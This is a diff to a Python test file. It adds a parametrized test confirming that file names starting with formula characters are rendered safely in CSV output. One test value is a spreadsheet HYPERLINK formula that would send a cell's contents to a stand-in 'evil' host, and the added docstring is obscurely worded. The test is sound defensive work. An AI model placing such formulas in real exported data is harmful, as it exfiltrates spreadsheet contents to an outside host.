@@ -9,6 +9,7 @@ import math
 import os
 import random
 import tracemalloc
+from pathlib import Path
 from types import SimpleNamespace
 
 import pytest
@@ -91,6 +92,14 @@ def test_no_table_calculates_with_a_model_s_words(begin):
     assert not [cell for cell in cells if cell.startswith(begin)]
     assert parse_line(line.render("csv"), "csv").error == f"error: {name}: is missing"
     assert parse_line(line.render("jsonl"), "jsonl") == line
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http:evil"&A2,"open").png', "+1.png", "-1.png", "@x.png", "\t=1.png"])
+def test_no_table_calculates_with_the_name_of_a_file(name):
+    """An input of a stranger's gives it to its answer's, which with `--files .` is in no folder."""
+    (cells,) = csv.reader([Line({"n": 1}, 200, file=str(Path() / name)).render("csv").decode()])
+    assert cells[7] == f"./{name}"
+    assert Path(cells[7]) == Path(name)
 
 
 @pytest.mark.parametrize(
